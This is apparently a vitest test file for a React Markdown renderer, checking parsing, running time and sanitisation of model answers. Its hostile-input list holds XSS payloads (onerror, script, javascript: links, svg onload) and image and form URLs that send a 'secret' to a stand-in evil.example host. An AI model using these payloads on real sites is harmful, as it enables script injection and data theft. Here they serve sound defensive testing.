// @vitest-environment happy-dom
import { renderToStaticMarkup } from "react-dom/server";
import { describe, expect, it } from "vitest";
import { Markdown } from "./markdown.tsx";
import { blocksOf, codeName, inlinesOf } from "./markdown_blocks.ts";

const html = (text: string) => renderToStaticMarkup(<Markdown text={text} />);

function elements(text: string): string[] {
  const root = document.createElement("div");
  root.innerHTML = html(text);
  return [...root.querySelectorAll("*")].map((one) => one.tagName.toLowerCase());
}

describe("blocks", () => {
  it("are headings, paragraphs, quotes and lists", () => {
    const kinds = blocksOf("# Title\n\nOne\nline.\n\n> said\n\n- a\n- b\n  - c\n\n1. x\n2. y\n").map(
      (block) => block.kind,
    );
    expect(kinds).toEqual(["heading", "paragraph", "quote", "list", "list"]);
  });

  it("join the lines of a paragraph and of an item", () => {
    expect(blocksOf("One\ntwo.\n\nThree.")).toHaveLength(2);
    const [list] = blocksOf("- a\n  goes on\n- b");
    expect(list?.kind === "list" && list.items.map((item) => item.inlines.map(({ text }) => text).join(""))).toEqual([
      "a goes on",
      "b",
    ]);
  });

  it("are code between fences, whatever it says, with the words behind the fence", () => {
    expect(blocksOf("```ts hooks/signup.ts\n# not a heading\n- nor a list\n```\nafter")).toEqual([
      { kind: "code", info: "ts hooks/signup.ts", text: "# not a heading\n- nor a list", isOpen: false },
      { kind: "paragraph", inlines: [{ kind: "text", text: "after" }] },
    ]);
  });

  it("are code while its end has not come, and within a longer fence", () => {
    expect(blocksOf("```ts\nconst a = 1;")).toEqual([{ kind: "code", info: "ts", text: "const a = 1;", isOpen: true }]);
    expect(blocksOf("````md\n```ts\n```\n````")).toMatchObject([{ text: "```ts\n```", isOpen: false }]);
    expect(blocksOf("~~~\n```\n~~~")).toMatchObject([{ text: "```", isOpen: false }]);
  });
});

it("calls code by its path, its name or its language", () => {
  expect(
    ["ts path=hooks/signup.ts", 'json case="denies a free provider"', "ts hooks/a.ts", "ts", ""].map(codeName),
  ).toEqual(["hooks/signup.ts", "denies a free provider", "ts hooks/a.ts", "ts", "Code"]);
});

describe("what is within a line", () => {
  it("is code, strong, emphasis, or text", () => {
    expect(inlinesOf("a `b` **c** *d* e")).toEqual([
      { kind: "text", text: "a " },
      { kind: "code", text: "b" },
      { kind: "text", text: " " },
      { kind: "strong", text: "c" },
      { kind: "text", text: " " },
      { kind: "emphasis", text: "d" },
      { kind: "text", text: " e" },
    ]);
    expect(inlinesOf("`` a ` b ``")).toEqual([{ kind: "code", text: "a ` b" }]);
    expect(inlinesOf("2 * 3 * 4 and snake_case_name")).toEqual([
      { kind: "text", text: "2 * 3 * 4 and snake_case_name" },
    ]);
  });

  it("is never a link or an image", () => {
    expect(inlinesOf("[here](https://a.example/x) ![p](https://b.example/c?d)")).toEqual([
      { kind: "text", text: "here (https://a.example/x)" },
      { kind: "text", text: " " },
      { kind: "text", text: "image: p (https://b.example/c?d)" },
    ]);
  });

  it("takes a time that grows with its length alone", () => {
    const began = performance.now();
    for (const hostile of ["*", "`", "[", "![](", "**a", "`a", "*a ", "- ", "> "]) {
      for (const line of [hostile.repeat(20_000), hostile.repeat(Math.floor(4000 / hostile.length))]) {
        inlinesOf(line);
        blocksOf(line);
      }
    }
    expect(performance.now() - began).toBeLessThan(2_000);
  });
});

describe("an answer that tries to be markup", () => {
  const HOSTILE = [
    "<img src=x onerror=alert(1)>",
    "<script>alert(1)</script>",
    "[x](javascript:alert(1))",
    "![x](https://evil.example/?q=secret)",
    '<a href="https://evil.example">x</a>',
    "<iframe src=//evil.example></iframe>",
    "`<img src=x onerror=alert(1)>`",
    "```html\n<script>alert(1)</script>\n```",
    '```"><img src=x onerror=alert(1)>\ncode\n```',
    "- <svg onload=alert(1)>",
    "> <form action=//evil.example><input></form>",
    "# <style>*{display:none}</style>",
    "[x]: https://evil.example\n<https://evil.example>",
    "&lt;img src=x&gt;",
  ];
  const OURS = new Set([
    "div",
    "p",
    "span",
    "ul",
    "ol",
    "li",
    "code",
    "strong",
    "em",
    "blockquote",
    "figure",
    "pre",
    "button",
    "svg",
    "path",
    "details",
    "summary",
  ]);

  it.each(HOSTILE)("stays text: %s", (text) => {
    const found = elements(text);
    expect(found.filter((name) => !OURS.has(name))).toEqual([]);
    const root = document.createElement("div");
    root.innerHTML = html(text);
    expect(root.querySelectorAll("[src], [href], [action], [onerror], [onload]")).toHaveLength(0);
  });

  it("shows what it hides", () => {
    expect(html("a\u200Bb \u202Ec `\u{E0041}`")).toContain("U+200B");
    expect(html("`\u{E0041}`")).toContain("U+E0041");
    expect(html("```x\u200B\ncode\u2066\n```")).toContain("U+2066");
  });

  it("is the text that it was", () => {
    const root = document.createElement("div");
    root.innerHTML = html("<b>bold</b> &amp; done");
    expect(root.textContent).toBe("<b>bold</b> &amp; done");
  });
});
